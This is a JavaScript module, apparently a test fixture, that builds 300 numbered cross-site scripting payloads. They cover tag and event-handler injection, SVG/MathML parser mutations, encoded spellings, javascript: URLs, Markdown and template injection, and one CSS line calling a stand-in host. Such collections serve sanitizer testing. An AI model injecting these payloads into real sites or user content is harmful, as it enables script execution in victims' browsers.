// What people put into documents to run their script in a reader's browser: 300 texts, each of one line, each with a number
// that an alert would show. They are made of distinct ways in and of what each may have to break out of first.

const ways = [
  // elements
  (n) => `<script>alert(${n})</script>`, (n) => `<ScRiPt>alert(${n})</sCrIpT>`, (n) => `<script/x>alert(${n})</script>`, (n) => `<script src=data:,alert(${n})></script>`,
  (n) => `<script type=module>alert(${n})</script>`, (n) => `<scr<script>ipt>alert(${n})</scr</script>ipt>`, (n) => `<script>/*`+`*/alert(${n})//</script>`,
  (n) => `<img src=x onerror=alert(${n})>`, (n) => `<IMG SRC=x OnErRoR=alert(${n})>`, (n) => `<img/src=x/onerror=alert(${n})>`, (n) => `<img src=x onerror="alert(${n})"`,
  (n) => `<img src=x:x onerror=&#97;lert(${n})>`, (n) => `<img srcset=x onerror=alert(${n})>`, (n) => `<image src=x onerror=alert(${n})>`, (n) => `<img src=x onerror=\\u0061lert(${n})>`,
  (n) => `<body onload=alert(${n})>`, (n) => `<body onpageshow=alert(${n})>`, (n) => `<iframe src=javascript:alert(${n})></iframe>`, (n) => `<iframe srcdoc="<script>alert(${n})</script>"></iframe>`,
  (n) => `<iframe srcdoc="&lt;script&gt;alert(${n})&lt;/script&gt;"></iframe>`, (n) => `<iframe onload=alert(${n})></iframe>`, (n) => `<object data=javascript:alert(${n})></object>`,
  (n) => `<object data="data:text/html,<script>alert(${n})</script>"></object>`, (n) => `<embed src=javascript:alert(${n})>`, (n) => `<input autofocus onfocus=alert(${n})>`,
  (n) => `<select autofocus onfocus=alert(${n})>`, (n) => `<textarea autofocus onfocus=alert(${n})>`, (n) => `<video src=x onerror=alert(${n})></video>`, (n) => `<video><source onerror=alert(${n})></video>`,
  (n) => `<audio src=x onerror=alert(${n})></audio>`, (n) => `<details open ontoggle=alert(${n})>`, (n) => `<marquee onstart=alert(${n})>`, (n) => `<base href=javascript:alert(${n})//>`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:alert(${n})">`, (n) => `<link rel=stylesheet href=data:,x onerror=alert(${n})>`, (n) => `<form action=javascript:alert(${n})><button autofocus>x`,
  (n) => `<button formaction=javascript:alert(${n})>x</button>`, (n) => `<isindex type=image src=1 onerror=alert(${n})>`, (n) => `<a href=javascript:alert(${n})>x</a>`,
  (n) => `<a href="java&#9;script:alert(${n})">x</a>`, (n) => `<a href="&#106;avascript:alert(${n})">x</a>`, (n) => `<a href=" javascript:alert(${n})">x</a>`, (n) => `<a autofocus tabindex=1 onfocus=alert(${n})>x</a>`,
  (n) => `<p style=animation-name:x onanimationstart=alert(${n})>`, (n) => `<dialog open onclose=alert(${n})>`, (n) => `<template><script>alert(${n})</script></template>`, (n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`,
  (n) => `<xss onmouseover=alert(${n}) style=position:fixed;inset:0>`, (n) => `<portal src=javascript:alert(${n})>`, (n) => `<table background=javascript:alert(${n})>`, (n) => `<frameset onload=alert(${n})>`,
  // svg and mathml
  (n) => `<svg onload=alert(${n})>`, (n) => `<svg/onload=alert(${n})>`, (n) => `<svg><script>alert(${n})</script></svg>`, (n) => `<svg><script>alert&#40;${n})</script></svg>`,
  (n) => `<svg><a xlink:href=javascript:alert(${n})><text y=9>x</text></a></svg>`, (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>`, (n) => `<svg><set onbegin=alert(${n}) attributeName=x>`,
  (n) => `<svg><foreignObject><img src=x onerror=alert(${n})></foreignObject></svg>`, (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(${n})</script></svg>#x">`,
  (n) => `<svg><image href=x onerror=alert(${n})></svg>`, (n) => `<svg><style><img src=x onerror=alert(${n})></style></svg>`, (n) => `<svg></p><style><a id="</style><img src=x onerror=alert(${n})>">`,
  (n) => `<math href=javascript:alert(${n})>x</math>`, (n) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${n})>`, (n) => `<math><mi xlink:href=javascript:alert(${n})>x</mi></math>`,
  (n) => `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(${n})></annotation-xml></math>`, (n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(${n})>`,
  // what a parser mends into something else
  (n) => `<listing>&lt;img src=x onerror=alert(${n})&gt;</listing>`, (n) => `<xmp><img src=x onerror=alert(${n})></xmp>`, (n) => `<noembed><img title="</noembed><img src=x onerror=alert(${n})>">`, (n) => `<plaintext><img src=x onerror=alert(${n})>`,
  (n) => `<style><!--</style><img src=x onerror=alert(${n})>--></style>`, (n) => `<!--><img src=x onerror=alert(${n})>-->`, (n) => `<!--!><img src=x onerror=alert(${n})>--!>`, (n) => `<!-- --!><img src=x onerror=alert(${n})> -->`,
  (n) => `<![CDATA[<img src=x onerror=alert(${n})>]]>`, (n) => `<?xml-stylesheet href=javascript:alert(${n})?><img src=x onerror=alert(${n})>`, (n) => `<!DOCTYPE x [<!ENTITY y "alert(${n})">]><script>&y;</script>`, (n) => `<%<img src=x onerror=alert(${n})>%>`,
  (n) => `</p><img src=x onerror=alert(${n})>`, (n) => `<a title="</a><img src=x onerror=alert(${n})>">x`, (n) => `<img alt="<x" title="x>" onerror=alert(${n}) src=x>`, (n) => `<img src="x\`onerror=alert(${n})\`">`,
  // styles
  (n) => `<style>@import 'javascript:alert(${n})';</style>`, (n) => `<p style="background:url(javascript:alert(${n}))">`, (n) => `<p style="x:expression(alert(${n}))">`, (n) => `<style>*{x:url("</style><img src=x onerror=alert(${n})>")}</style>`,
  (n) => `<link rel=stylesheet href="data:text/css,*{color:red}"><b id=v${n}>`, (n) => `}*{background:url(//evil.example/${n})}`,
  // entities and other spellings of the same letters
  (n) => `&lt;script&gt;alert(${n})&lt;/script&gt;`, (n) => `&#60;img src=x onerror=alert(${n})&#62;`, (n) => `&#x3c;img src=x onerror=alert(${n})&#x3e;`, (n) => `&amp;lt;img src=x onerror=alert(${n})&amp;gt;`, (n) => `%3Cimg src=x onerror=alert(${n})%3E`,
  (n) => `\\u003cimg src=x onerror=alert(${n})\\u003e`, (n) => `\\x3cimg src=x onerror=alert(${n})\\x3e`, (n) => `\uFF1Cimg src=x onerror=alert(${n})\uFF1E`, (n) => `\u02C2img src=x onerror=alert(${n})\u02C3`,
  (n) => `+ADw-img src=x onerror=alert(${n})+AD4-`, (n) => `<\u200Bscript>alert(${n})</script>`, (n) => `<img\u00A0src=x onerror=alert(${n})>`, (n) => `\u202E<img src=x onerror=alert(${n})>`, (n) => `<\u017Fcript>alert(${n})</\u017Fcript>`, (n) => `<\u0130mg src=x onerror=alert(${n})>`,
  // addresses and Markdown
  (n) => `javascript:alert(${n})`, (n) => `JaVaScRiPt:alert(${n})`, (n) => `javascript&colon;alert(${n})`, (n) => `javascript://example.org/%0aalert(${n})`, (n) => `data:text/html,<script>alert(${n})</script>`, (n) => `vbscript:alert(${n})`,
  (n) => `[x](javascript:alert(${n}))`, (n) => `[x](JAVASCRIPT:alert(${n}))`, (n) => `[x](javascript&colon;alert(${n}))`, (n) => `[x](<javascript:alert(${n})>)`, (n) => `[x](data:text/html,<script>alert(${n})</script>)`, (n) => `![x](javascript:alert(${n}))`,
  (n) => `![x](x"onerror="alert(${n}))`, (n) => `![" onerror="alert(${n})](x)`, (n) => `[x](x "x\\" onmouseover=\\"alert(${n})")`, (n) => `[x](x 'x" autofocus onfocus="alert(${n})')`, (n) => `<javascript:alert(${n})>`, (n) => `<https://example.org/"onmouseover=alert(${n})>`,
  (n) => `https://example.org/"onmouseover="alert(${n})`, (n) => `[<img src=x onerror=alert(${n})>](x)`, (n) => `\`<img src=x onerror=alert(${n})>\``, (n) => `**<img src=x onerror=alert(${n})>**`, (n) => `x{onmouseover=alert(${n})}`,
  // templates
  (n) => `{{ "<script>alert(${n})</script>" | safeHTML }}`, (n) => `{{< rawhtml >}}<script>alert(${n})</script>{{< /rawhtml >}}`, (n) => `{{% x %}}<script>alert(${n})</script>{{% /x %}}`, (n) => `{{</* x */>}}<img src=x onerror=alert(${n})>`,
  (n) => `{{constructor.constructor('alert(${n})')()}}`, (n) => `\${alert(${n})}`, (n) => `<%= alert(${n}) %>`, (n) => `#{alert(${n})}`, (n) => `{{template "x"}}<script>alert(${n})</script>`, (n) => `<!--results--><script>alert(${n})</script><!--/results-->`,
];

const outOf = ["", `">`, `'>`, `" onmouseover=alert(0) x="`, `</title>`, `</textarea>`, `</script>`, `</style>`, `</option></select>`, `-->`, `]]>`, `</code></pre>`, `</a>`, `" autofocus onfocus="alert(0)" `, `\\">`, `</h1></main>`, `</svg>`, `</time>`, `\`>`];

/** The texts, the plain ones first. */
export const vectors = [];
for (let i = 0; vectors.length < 300; i++) {
  const round = Math.floor(i / ways.length);
  const out = round === 0 ? "" : outOf[1 + ((i * 7 + round) % (outOf.length - 1))];
  vectors.push((out + ways[i % ways.length](vectors.length + 1)).replaceAll("alert(0)", `alert(${vectors.length + 1})`));
}
